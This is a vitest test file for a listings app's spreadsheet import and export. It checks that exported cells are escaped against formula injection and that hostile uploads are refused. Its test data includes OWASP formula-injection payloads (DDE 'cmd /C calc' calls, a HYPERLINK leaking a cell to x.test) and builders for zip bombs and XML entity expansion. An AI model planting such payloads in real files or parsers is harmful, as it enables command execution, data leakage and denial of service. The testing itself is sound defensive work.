import { describe, expect, test } from 'vitest';
import { escapeCell, unescapeCell } from '#src/domain/listings/spreadsheet/escape-cell.ts';
import { readCsv } from '#src/domain/listings/spreadsheet/read-csv.ts';
import { readSheet } from '#src/domain/listings/spreadsheet/read-table.ts';
import { readXlsx } from '#src/domain/listings/spreadsheet/read-xlsx.ts';
import { writeCsv } from '#src/domain/listings/spreadsheet/write-csv.ts';
import { writeXlsx } from '#src/domain/listings/spreadsheet/write-xlsx.ts';
import { openZip } from '#src/domain/listings/spreadsheet/unzip.ts';
import { refusalOf } from './shop.ts';
import { workbook, zip } from './zip.ts';

/** What spreadsheets run, or were made to run (OWASP). */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.test?leak="&A1;"klik")',
  '+1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
];

describe('files that leave', () => {
  test('no cell of a CSV file begins as a formula, and reading it gives the same texts', () => {
    const csv = writeCsv([['judul'], ...formulas.map((text) => [text])]);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const cells = [...csv.slice(1).matchAll(/(?:^|\r\n)(?:"((?:[^"]|"")*)"|([^\r\n]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
    );
    expect(cells.length).toBeGreaterThan(formulas.length);
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
    expect(readCsv(Buffer.from(csv)).slice(1)).toEqual(formulas.map((text) => [text]));
  });

  test('what isn’t dangerous stays as it is', () => {
    for (const text of ['Kain = indah', "d'Jenggot", '1250000', "'aneh", '']) expect(escapeCell(text)).toBe(text);
    for (const text of formulas) expect(unescapeCell(escapeCell(text))).toBe(text);
  });

  test('every cell of an XLSX file is a text and none a formula', async () => {
    const file = await writeXlsx([['id', 'judul'], ...formulas.map((text, index) => [String(index), text])], 'kain');
    const sheet = await openZip(file).read('xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[\s>/]/);
    expect([...sheet.matchAll(/<c [^>]*>/g)].every(([cell]) => /t="(s|inlineStr)"/.test(cell))).toBe(true);
    const read = await readXlsx(file);
    expect(read.slice(1).map(([id]) => id)).toEqual(formulas.map((_, index) => String(index)));
  });
});

describe('files that arrive', () => {
  const rows = [
    ['id', 'judul', 'harga'],
    ['7', 'Kain; panjang, "halus"\nsekali', '1.250.000'],
  ];
  test.each([
    ['commas', 'id,judul,harga\r\n7,"Kain; panjang, ""halus""\nsekali",1.250.000\r\n'],
    ['semicolons', '\ufeffid;judul;harga\n7;"Kain; panjang, ""halus""\nsekali";1.250.000'],
    ['tabs', 'id\tjudul\tharga\n7\t"Kain; panjang, ""halus""\nsekali"\t1.250.000\n\n'],
    ['sep line', 'sep=;\r\nid;judul;harga\r\n7;"Kain; panjang, ""halus""\nsekali";1.250.000\r\n;;\r\n'],
  ])('CSV with %s', (_, text) => expect(readCsv(Buffer.from(text))).toEqual(rows));

  test('older Excel’s own letters are read', () => {
    expect(readCsv(Buffer.from('judul\nKain caf\xe9', 'latin1'))).toEqual([['judul'], ['Kain café']]);
  });

  test('XLSX: shared and inline texts, rich text, numbers, gaps, results of formulas', async () => {
    const shared =
      '<sst><si><t>judul</t></si><si><r><t>Kain </t></r><r><t xml:space="preserve">merah &amp; biru</t></r></si></sst>';
    const sheet = `<x:worksheet xmlns:x="y"><x:sheetData><x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c>
      <x:c r="C1" t="inlineStr"><x:is><x:t>harga</x:t></x:is></x:c></x:row><x:row r="2"/><x:row r="9">
      <x:c r="A9" t="s"><x:v>1</x:v></x:c><x:c r="B9" s="3"/><x:c r="C9"><x:f>A1*2</x:f><x:v>1249999.9999999998</x:v></x:c>
      </x:row></x:sheetData></x:worksheet>`;
    const file = workbook(sheet, [{ name: 'xl/sharedStrings.xml', body: shared }]);
    expect(await readXlsx(file)).toEqual([
      ['judul', '', 'harga'],
      ['Kain merah & biru', '', '1250000'],
    ]);
  });

  const row = '<row r="1"><c r="A1" t="inlineStr"><is><t>judul</t></is></c></row>';
  const many = (count: number) => row + `<row><c t="inlineStr"><is><t>x</t></is></c></row>`.repeat(count);
  const bombs: [string, () => Buffer, string][] = [
    [
      '1 GB of zeros',
      () => zip([{ name: 'xl/workbook.xml', body: Buffer.alloc(300_000_000), claimed: 1_000_000_000 }]),
      'import-too-large',
    ],
    ['a part longer than it says', () => workbook(Buffer.alloc(150_000_000, 'x'), []), 'import-too-large'],
    [
      'a part that lies',
      () => zip([{ name: 'xl/workbook.xml', body: Buffer.alloc(200_000_000, ' '), claimed: 1_000 }]),
      'import-unreadable',
    ],
    [
      'a thousand parts',
      () => zip(Array.from({ length: 1_000 }, (_, n) => ({ name: `a${n}`, body: '' }))),
      'import-too-large',
    ],
    ['one row too many', () => workbook(many(501)), 'import-too-large'],
    ['19 MB of tags', () => workbook(row + '<row/>'.repeat(3_200_000)), 'import-too-large'],
    ['a name without end', () => workbook(`<${'a'.repeat(15_000_000)}`), 'import-unreadable'],
    ['an attribute without end', () => workbook(`<row r="${'a'.repeat(15_000_000)}`), 'import-unreadable'],
    [
      'a document type',
      () => workbook(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><row><c t="str"><v>&b;</v></c></row>`),
      'import-unreadable',
    ],
    ['no workbook', () => zip([{ name: 'mimetype', body: 'x' }]), 'import-unreadable'],
    ['half a file', () => workbook(row).subarray(0, 300), 'import-unreadable'],
    ['nothing but a signature', () => Buffer.from([0x50, 0x4b, 3, 4]), 'import-unreadable'],
    ['a directory that points outside', () => broken(), 'import-unreadable'],
    ['binary', () => Buffer.from([0, 1, 2, 3, 0, 255]), 'import-unreadable'],
    ['an unclosed quote', () => Buffer.from(`judul\n"${'x'.repeat(500_000)}`), 'import-unreadable'],
    ['no header anyone knows', () => Buffer.from('nama;umur\nA;3'), 'import-unreadable'],
    ['an empty file', () => Buffer.alloc(0), 'import-unreadable'],
    ['501 rows', () => Buffer.from(`judul\n${'x\n'.repeat(501)}`), 'import-too-large'],
    ['more than 1 MB', () => Buffer.alloc(1_048_577, 'x'), 'import-too-large'],
  ];
  test.each(bombs)('%s is refused within two seconds', async (_, make, code) => {
    const file = make();
    const start = performance.now();
    const memory = process.memoryUsage().rss;
    expect(await refusalOf(readSheet(file))).toBe(code);
    expect(performance.now() - start).toBeLessThan(2_000);
    expect(process.memoryUsage().rss - memory).toBeLessThan(150_000_000);
  });

  test('a cell at the far end of the sheet makes no sheet of that size', async () => {
    const { rows } = await readSheet(
      workbook(`${row}<row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="A2"><v>2</v></c></row>`),
    );
    expect(rows.map(({ cells }) => [...cells])).toEqual([[['titleId', '2']]]);
  });

  test('500 rows are read', async () => {
    const csv = await readSheet(Buffer.from(`judul\n${'x\n'.repeat(500)}`));
    expect(csv.rows).toHaveLength(500);
    expect((await readSheet(workbook(many(500)))).rows).toHaveLength(500);
  });

  function broken(): Buffer {
    const file = workbook(row);
    const at = file.indexOf(Buffer.from([0x50, 0x4b, 1, 2]));
    file.writeUInt32LE(0xfffffff0, at + 42);
    return file;
  }
});
